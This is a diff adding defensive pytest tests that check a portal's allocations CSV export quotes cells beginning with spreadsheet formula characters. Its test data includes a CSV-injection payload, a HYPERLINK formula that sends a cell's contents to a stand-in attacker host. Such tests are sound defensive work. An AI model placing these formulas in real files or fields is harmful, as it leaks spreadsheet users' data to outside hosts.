@@ -104,3 +104,49 @@ def test_operator_ends_an_allocation(make_user, nodes, tenant_a):
     allocation.refresh_from_db()
     assert allocation.end is not None and allocation.end <= timezone.now()
     assert Action.objects.filter(kind="slurm.reservation_sync").count() == 2
+
+
+# (A leading tab or carriage return, also neutralised, does not survive the purpose's strip.)
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_the_allocations_csv_does_not_hand_a_spreadsheet_a_formula(
+    make_user, nodes, tenant_a, formula
+):
+    """A purpose is anyone's text; a spreadsheet runs a cell that begins with = + - @ or a tab
+    as a formula (CSV injection). Such a cell is prefixed with a quote (OWASP's advice)."""
+    import csv
+    import io
+
+    allocation_create(tenant=tenant_a, hostlist="gpu001", start=timezone.now(), purpose=formula)
+    client = login(make_user, Role.TENANT_ADMIN, tenant_a)
+    csv_text = client.get(f"/tenants/{tenant_a.slug}/allocations.csv").content.decode()
+    rows = list(csv.DictReader(io.StringIO(csv_text)))
+    assert [row["purpose"] for row in rows] == [f"'{formula}"]
+    assert rows[0]["nodes"] == "gpu001" and rows[0]["node_count"] == "1"
+
+
+def test_every_csv_export_writes_through_the_formula_safe_writer():
+    """One helper neutralises formulas (portal/csv_export.py); no export builds its own."""
+    from pathlib import Path
+
+    repo = Path(__file__).resolve().parents[2]
+    writers = [
+        path.relative_to(repo).as_posix()
+        for path in repo.glob("*/**/*.py")
+        if not path.is_relative_to(repo / ".venv")
+        and not path.is_relative_to(repo / "tests")
+        and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
+    ]
+    assert writers == ["portal/csv_export.py"]
+
+
+def test_the_formula_safe_writer_neutralises_text_cells_only():
+    import io
+
+    from portal.csv_export import csv_writer
+
+    stream = io.StringIO()
+    csv_writer(stream).writerow(["\tcmd", "\r=1", "=1", "plain", -3, 2.5, ""])
+    assert stream.getvalue() == "'\tcmd,\"'\r=1\",'=1,plain,-3,2.5,\r\n"
